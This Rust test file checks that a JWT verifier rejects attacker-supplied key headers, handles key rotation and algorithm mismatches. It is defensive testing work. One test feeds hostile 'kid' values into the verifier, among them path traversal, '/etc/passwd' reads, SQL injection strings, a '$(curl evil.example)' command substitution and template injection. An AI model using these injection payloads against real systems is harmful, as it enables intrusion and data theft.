//! Keys that an attacker supplies or points to, and keys that the issuer rotates.

use chrono::TimeDelta;
use patgate_authorizer::session::{SessionDenial, SessionError};
use patgate_rules::clock;
use serde_json::{Value, json};

use super::verify_cold;
use crate::identity_provider::{IdentityProvider, verifier_for};

#[tokio::test]
async fn key_supplied_in_the_header_is_neither_used_nor_fetched() {
    let (provider, attacker) = (IdentityProvider::start().await, IdentityProvider::start().await);
    let verifier = verifier_for(&provider);
    let claims = provider.claims(json!({ "roles": ["administrator"] }));

    let valid = provider.sign("ES256", json!({}), &claims);
    assert!(verifier.verify(&valid, clock::now()).await.is_ok());
    provider.take_paths();

    let (jwk, keys) = (attacker.public_key("ES256", "ES256"), format!("{}/keys", attacker.url));
    for header in [
        json!({ "jwk": jwk }),
        json!({ "jku": keys }),
        json!({ "x5u": keys }),
        json!({ "x5c": ["MIIB", "MIIB"] }),
        json!({ "x5t": "AAAA", "x5t#S256": "AAAA" }),
        json!({ "jwk": jwk, "jku": keys, "x5u": keys, "x5c": ["MIIB"] }),
    ] {
        let result = verifier.verify(&attacker.sign("ES256", header.clone(), &claims), clock::now()).await;
        assert_eq!(result, Err(SessionError::Denied(SessionDenial::WrongSignature)), "{header}");

        let mut without_kid = header.clone();
        without_kid["kid"] = Value::Null;
        let result = verifier.verify(&attacker.sign("ES256", without_kid, &claims), clock::now()).await;
        assert_eq!(result, Err(SessionError::Denied(SessionDenial::NoKeyId)), "{header}");
    }
    let requested = (attacker.take_paths(), provider.take_paths());
    assert_eq!(requested, (Vec::new(), Vec::new()), "no server receives a request");
}

#[tokio::test]
async fn key_id_is_only_looked_up_and_never_interpreted() {
    let (provider, attacker) = (IdentityProvider::start().await, IdentityProvider::start().await);
    let claims = provider.claims(json!({}));

    for kid in [
        "",
        " ",
        "../../../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "file:///etc/passwd",
        &format!("{}/keys", attacker.url),
        "keys?kid=ES256",
        "' OR '1'='1",
        "x' UNION SELECT 'AAAA' --",
        "\"; drop table Users; --",
        "$(curl evil.example)",
        "|/usr/bin/id",
        "{{7*7}}",
        "ES256\0",
        "ES256 ",
        "es256",
        "\u{212a}ey",
        "__proto__",
        &"k".repeat(100_000),
        &"../".repeat(30_000),
    ] {
        let jwt = attacker.sign("ES256", json!({ "kid": kid }), &claims);
        let result = verify_cold(&provider, &jwt).await;
        let expected = Err(SessionError::Denied(SessionDenial::UnknownKey));
        assert_eq!(result, expected, "{}", kid.chars().take(60).collect::<String>());
        assert_eq!(provider.take_paths(), ["/.well-known/openid-configuration", "/keys"], "{kid:.60}");
    }

    for kid in [json!(1), json!(["ES256"]), json!({ "kid": "ES256" }), json!(true)] {
        let jwt = attacker.sign("ES256", json!({ "kid": kid }), &claims);
        assert!(matches!(verify_cold(&provider, &jwt).await, Err(SessionError::Denied(_))), "{kid}");
    }

    assert_eq!(attacker.take_paths(), Vec::<String>::new());
}

#[tokio::test]
async fn key_rotation_accepts_both_keys_under_their_own_ids_and_then_only_the_new_key() {
    let (provider, next) = (IdentityProvider::start().await, IdentityProvider::start().await);
    let verifier = verifier_for(&provider);
    let (old_key, new_key) = (provider.public_key("ES256", "old"), next.public_key("ES256", "new"));

    // The sessions must outlast the cache of keys.
    let in_two_hours = (clock::now() + TimeDelta::hours(2)).timestamp();
    let claims = provider.claims(json!({ "exp": in_two_hours }));
    let signed_with_old = provider.sign("ES256", json!({ "kid": "old" }), &claims);
    let signed_with_new = next.sign("ES256", json!({ "kid": "new" }), &claims);
    let with_the_id_of_the_other = [
        provider.sign("ES256", json!({ "kid": "new" }), &claims),
        next.sign("ES256", json!({ "kid": "old" }), &claims),
    ];

    let now = clock::now();
    let accepts =
        async |jwt: &str, minutes| match verifier.verify(jwt, now + TimeDelta::minutes(minutes)).await {
            Ok(_) => true,
            Err(SessionError::Denied(_)) => false,
            Err(error) => panic!("{error:?}"),
        };

    provider.publish(vec![old_key.clone()]);
    assert!(accepts(&signed_with_old, 0).await && !accepts(&signed_with_new, 0).await);

    provider.publish(vec![old_key, new_key.clone()]);
    assert!(accepts(&signed_with_new, 1).await && accepts(&signed_with_old, 1).await);
    for jwt in &with_the_id_of_the_other {
        assert!(!accepts(jwt, 1).await, "a key verifies only sessions with its own ID");
    }

    // A withdrawn key is accepted until the cached key set is an hour old.
    provider.publish(vec![new_key]);
    assert!(accepts(&signed_with_old, 60).await);
    assert!(accepts(&signed_with_new, 61).await && !accepts(&signed_with_old, 61).await);
}

#[tokio::test]
async fn key_of_another_algorithm_under_the_same_id_does_not_verify_earlier_sessions() {
    let provider = IdentityProvider::start().await;
    let claims = provider.claims(json!({}));
    let (rsa, ed) = (provider.public_key("RS256", "same"), provider.public_key("EdDSA", "same"));
    let jwt = provider.sign("RS256", json!({ "kid": "same" }), &claims);

    provider.publish(vec![rsa]);
    assert!(verify_cold(&provider, &jwt).await.is_ok());

    provider.publish(vec![ed]);
    let expected = Err(SessionError::Denied(SessionDenial::OtherAlgorithm));
    assert_eq!(verify_cold(&provider, &jwt).await, expected);
}
